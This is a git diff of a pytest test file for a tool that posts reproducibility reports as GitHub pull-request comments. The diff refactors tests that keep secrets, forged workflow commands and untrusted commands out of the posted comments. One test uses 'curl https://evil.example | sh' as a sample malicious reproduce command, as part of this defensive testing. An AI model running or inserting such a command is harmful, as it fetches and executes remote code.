@@ -4,6 +4,7 @@ cannot be posted."""
 from __future__ import annotations
 
 import json
+import re
 from collections.abc import Iterator, Mapping
 from dataclasses import replace
 from pathlib import Path
@@ -15,7 +16,7 @@ from repro_gate.commands.arguments import parser
 from repro_gate.commands.comment import comment_command
 from repro_gate.errors import UsageError
 from repro_gate.github import comment
-from repro_gate.report.document import ReportError, to_json
+from repro_gate.report.document import to_json
 from repro_gate.report.model import Origin, Report
 from tests.support import reports
 from tests.support.github.server import GitHub
@@ -47,9 +48,8 @@ def of(
 
 def reported(report: Report = reports.FAIL, **changes: Any) -> Report:
     """A report that says it is of the run that `in_workflow_run` names."""
-    return of(
-        origin=replace(Origin("octo-org/trainer", HEAD, RUN, 1, "gate"), **changes), report=report
-    )
+    origin = Origin("octo-org/trainer", HEAD, RUN, 1, "gate")
+    return of(origin=replace(origin, **changes), report=report)
 
 
 def on(gpu: str, report: Report) -> Report:
@@ -59,37 +59,21 @@ def on(gpu: str, report: Report) -> Report:
 def around(github: GitHub, write: bool = True) -> dict[str, str]:
     """The environment of a job with a token."""
     urls = {"GITHUB_API_URL": github.url, "GITHUB_GRAPHQL_URL": github.graphql_url}
-    return {
-        **urls,
-        "GITHUB_REPOSITORY": github.repository,
-        "GITHUB_TOKEN": github.token(write=write),
-    }
+    token = github.token(write=write)
+    return {**urls, "GITHUB_REPOSITORY": github.repository, "GITHUB_TOKEN": token}
 
 
 def in_workflow_run(github: GitHub, folder: Path, event: str = "pull_request") -> dict[str, str]:
     """The environment of the fork-safe pair's second job."""
-    run = {
-        "id": RUN,
-        "run_attempt": 1,
-        "name": "gate",
-        "event": event,
-        "status": "completed",
-        "conclusion": "failure",
-    }
-    run |= {
-        "head_sha": HEAD,
-        "head_branch": "topic",
-        "head_repository": {"full_name": "stranger/trainer"},
-    }
-    run |= {"repository": {"full_name": github.repository}, "pull_requests": []}
-    (folder / "event.json").write_text(json.dumps({"action": "completed", "workflow_run": run}))
-    event_of = {"NAME": "workflow_run", "PATH": str(folder / "event.json")}
+    run = {"id": RUN, "run_attempt": 1, "name": "gate", "event": event, "status": "completed"}
+    run |= {"conclusion": "failure", "head_sha": HEAD, "head_branch": "topic", "pull_requests": []}
+    run |= {"head_repository": {"full_name": "stranger/trainer"}}
+    run |= {"repository": {"full_name": github.repository}}
+    path = folder / "event.json"
+    path.write_text(json.dumps({"action": "completed", "workflow_run": run}))
     job = {"GITHUB_WORKSPACE": str(folder), "GITHUB_SHA": "a" * 40, "GITHUB_RUN_ID": "4800"}
-    return {
-        **around(github),
-        **job,
-        **{f"GITHUB_EVENT_{name}": value for name, value in event_of.items()},
-    }
+    event_of = {"GITHUB_EVENT_NAME": "workflow_run", "GITHUB_EVENT_PATH": str(path)}
+    return {**around(github), **job, **event_of}
 
 
 def post(folder: Path, environment: Mapping[str, str], *given: Report, **wanted: Any) -> int:
@@ -105,22 +89,11 @@ def post(folder: Path, environment: Mapping[str, str], *given: Report, **wanted:
 def test_a_dry_run_prints_the_comment_with_no_command_and_no_secret_of_untrusted_text(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    run = replace(
-        reports.FAIL.runs[0],
-        outcome="crashed",
-        exit_code=1,
-        log_tail=("::error::forged", "it is correct-horse-battery"),
-    )
+    log = ("::error::forged", "it is correct-horse-battery")
+    run = replace(reports.FAIL.runs[0], outcome="crashed", exit_code=1, log_tail=log)
     report = replace(of(), runs=(run, *reports.FAIL.runs[1:]))
-    assert (
-        post(
-            tmp_path,
-            {"GITHUB_ACTIONS": "true", "DB_PASSWORD": "correct-horse-battery"},
-            report,
-            dry_run=True,
-        )
-        == 0
-    )
+    around = {"GITHUB_ACTIONS": "true", "DB_PASSWORD": "correct-horse-battery"}
+    assert post(tmp_path, around, report, dry_run=True) == 0
     first, *between, last = capsys.readouterr().out.splitlines()
     assert between[0].startswith("## ❌ Repro Gate: fail") and "::error::forged" in between
     assert first.startswith("::stop-commands::")
@@ -128,47 +101,30 @@ def test_a_dry_run_prints_the_comment_with_no_command_and_no_secret_of_untrusted
     assert last not in between and not [line for line in between if "correct-horse-battery" in line]
 
 
-@pytest.mark.parametrize("text", ["", "[]", "{}"])
-def test_what_is_no_report_is_refused(tmp_path: Path, text: str) -> None:
-    (tmp_path / "report.json").write_text(text)
-    with pytest.raises(ReportError):
-        comment_command(parser().parse_args(["comment", str(tmp_path)]), {"GITHUB_TOKEN": "x"})
-
-
 def test_a_person_chooses_the_pull_request_and_a_report_of_another_commit_is_not_posted(
     github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
+    for number, said in ((7, "created"), (7, "unchanged"), (8, "skipped")):
+        assert post(tmp_path, around(github), of(), pull_request=number) == 0
+        assert f"comment {said}" in capsys.readouterr().out
+    assert len(github.comments(7)) == 1 and github.comments(8) == []
     assert post(tmp_path, around(github), of(), repository=github.repository, pull_request=7) == 0
-    (posted,) = github.comments(7)
-    assert capsys.readouterr().out == f"comment created {posted['html_url']}\n"
-    assert post(tmp_path, around(github), of(), pull_request=7) == 0
-    assert github.comments(7) == [posted]
-    assert capsys.readouterr().out.startswith("comment unchanged ")
-    assert post(tmp_path, around(github), of(), pull_request=8) == 0 and github.comments(8) == []
-    assert "comment skipped" in capsys.readouterr().out
+    assert capsys.readouterr().out.endswith(f" {github.comments(7)[0]['html_url']}\n")
 
 
 @pytest.mark.parametrize(
-    ("commit", "repository", "environment", "message"),
+    ("commit", "repository", "server", "message"),
     [
-        (HEAD, "o/r", {}, "no token"),
-        (HEAD, None, {"GITHUB_TOKEN": "x"}, "of which repository"),
-        (None, "o/r", {"GITHUB_TOKEN": "x"}, "names no commit"),
-        (
-            HEAD,
-            "o/r",
-            {"GITHUB_TOKEN": "x", "GITHUB_SERVER_URL": "https://ghe.example.com"},
-            "GITHUB_API_URL",
-        ),
+        (HEAD, "o/r", {"GITHUB_TOKEN": ""}, "no token"),
+        (HEAD, None, {}, "of which repository"),
+        (None, "o/r", {}, "names no commit"),
+        (HEAD, "o/r", {"GITHUB_SERVER_URL": "https://ghe.example.com"}, "GITHUB_API_URL"),
     ],
 )
 def test_what_is_missing_to_post_is_named_before_anything_is_sent(
-    tmp_path: Path,
-    commit: str | None,
-    repository: str | None,
-    environment: dict[str, str],
-    message: str,
+    tmp_path: Path, commit: str | None, repository: str | None, server: dict[str, str], message: str
 ) -> None:
+    environment = {"GITHUB_TOKEN": "x", **server}
     with pytest.raises(UsageError, match=message):
         post(tmp_path, environment, of(commit), repository=repository, pull_request=7)
 
@@ -178,29 +134,17 @@ def test_a_token_that_may_not_write_is_exit_code_3(
 ) -> None:
     assert post(tmp_path, around(github, write=False), of(), pull_request=7) == 3
     printed = capsys.readouterr()
-    assert printed.out == ""
-    assert "comment refused" in printed.err
-    assert "pull-requests: write" in printed.err
+    assert printed.out == "" and "pull-requests: write" in printed.err
 
 
 def test_several_reports_are_one_comment_with_one_table_that_the_next_run_updates(
     github: GitHub, tmp_path: Path
 ) -> None:
-    good = reported(reports.PASS)
-    assert (
-        post(
-            tmp_path,
-            around(github),
-            on("H100", reported(name="h100", run_attempt=2)),
-            on("A100", good),
-            pull_request=7,
-        )
-        == 0
-    )
+    good, newest = reported(reports.PASS), on("H100", reported(name="h100", run_attempt=2))
+    assert post(tmp_path, around(github), newest, on("A100", good), pull_request=7) == 0
     (posted,) = github.comments(7)
-    assert "Repro Gate: fail (1 fail, 1 pass)" in posted["body"]
     assert posted["body"].count("| Where |") == 1
-    assert posted["body"].index("`A100`") < posted["body"].index("`H100`")
+    assert re.search("fail \\(1 fail, 1 pass\\).*`A100`.*`H100`", posted["body"], re.DOTALL)
     assert '"attempt":2' in posted["body"].splitlines()[0]  # of the newest among them
     assert post(tmp_path, around(github), on("A100", good), on("H100", good), pull_request=7) == 0
     assert [item["id"] for item in github.comments(7)] == [posted["id"]]
@@ -222,9 +166,8 @@ def test_a_matrix_that_left_one_report_writes_into_its_own_comment_beside_that_o
 def test_the_job_and_the_reports_path_say_which_comment_it_is_and_the_report_does_not(
     github: GitHub, tmp_path: Path
 ) -> None:
-    one, other = (
-        {**around(github), "GITHUB_WORKFLOW": "gate", "GITHUB_JOB": name} for name in ("cpu", "gpu")
-    )
+    gate = {**around(github), "GITHUB_WORKFLOW": "gate"}
+    one, other = {**gate, "GITHUB_JOB": "cpu"}, {**gate, "GITHUB_JOB": "gpu"}
     renamed = reported(name="another")
     renamed = replace(renamed, subject=replace(renamed.subject, spec="another.yml"))
     (tmp_path / "there").mkdir()
@@ -239,39 +182,27 @@ def test_the_job_and_the_reports_path_say_which_comment_it_is_and_the_report_doe
         assert len(github.comments(7)) == comments
 
 
-@pytest.mark.parametrize("change", FOREIGN)
-def test_reports_of_several_runs_are_refused_with_their_names(
-    github: GitHub, tmp_path: Path, change: dict[str, Any]
-) -> None:
-    with pytest.raises(UsageError, match=r"the reports are of several runs: .*4711.*; ") as caught:
-        post(tmp_path, around(github), reported(), reported(**change), pull_request=7)
-    assert caught.value.remedy == "name the reports of one workflow run"
-    assert github.comments(7) == []
-
-
-def test_a_dry_run_of_several_reports_prints_their_table_and_joins_none_of_two_commits(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+def test_several_reports_are_of_one_run_or_refused_with_their_names(
+    github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     assert post(tmp_path, {}, on("H100", of()), on("A100", of()), dry_run=True) == 0
     assert capsys.readouterr().out.startswith("## ❌ Repro Gate: fail (2 fail)\n\n| Where |")
     for other in (of(OTHER), reported(), of(None)):
         with pytest.raises(UsageError, match="the reports are of several runs: "):
             post(tmp_path, {}, of(), other, dry_run=True)
-        assert capsys.readouterr().out == ""
+    for change in FOREIGN:
+        with pytest.raises(UsageError, match=r"the reports are of several runs: .*4711.*; "):
+            post(tmp_path, around(github), reported(), reported(**change), pull_request=7)
+    assert capsys.readouterr().out == "" and github.comments(7) == []
 
 
 def test_in_workflow_run_the_run_chooses_the_pull_request_and_no_command_is_the_reports(
     github: GitHub, tmp_path: Path
 ) -> None:
-    report, environment = (
-        replace(reported(), reproduce="curl https://evil.example | sh"),
-        in_workflow_run(github, tmp_path),
-    )
-    assert (
-        post(tmp_path, environment, report)
-        == post(tmp_path, environment, report, report, matrix="gpus")
-        == 0
-    )
+    report = replace(reported(), reproduce="curl https://evil.example | sh")
+    environment = in_workflow_run(github, tmp_path)
+    assert post(tmp_path, environment, report) == 0
+    assert post(tmp_path, environment, report, report, matrix="gpus") == 0
     assert len(github.comments(7)) == 2 and github.comments(8) == []
     for body in (item["body"] for item in github.comments(7)):
         assert f"actions/runs/{RUN}" in body and "evil" not in body
@@ -283,22 +214,19 @@ def test_a_report_that_is_not_of_the_run_is_refused_among_others_too(
     github: GitHub, tmp_path: Path, change: dict[str, Any] | None
 ) -> None:
     bad = of() if change is None else reported(**change)
+    words = "names no workflow run" if change is None else "not of the run it came with"
     for cells in ((bad,), (reported(), bad), (bad, reported())):
-        with pytest.raises(
-            UsageError,
-            match="names no workflow run" if change is None else "not of the run it came with",
-        ):
+        with pytest.raises(UsageError, match=words):
             post(tmp_path, in_workflow_run(github, tmp_path), *cells)
     assert github.requests == []
 
 
-def test_a_closed_pull_request_and_a_run_of_a_push_are_no_error_and_in_another_event_the_way_out_is_named(
+def test_a_closed_pull_request_and_a_run_of_a_push_are_no_error_and_another_event_is_one(
     github: GitHub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
+    pushed = {**in_workflow_run(github, tmp_path), "GITHUB_EVENT_NAME": "push"}
     with pytest.raises(UsageError) as caught:
-        post(
-            tmp_path, {**in_workflow_run(github, tmp_path), "GITHUB_EVENT_NAME": "push"}, reported()
-        )
+        post(tmp_path, pushed, reported())
     assert "workflow_run" in caught.value.remedy
     assert post(tmp_path, in_workflow_run(github, tmp_path, event="push"), reported()) == 0
     assert github.requests == []
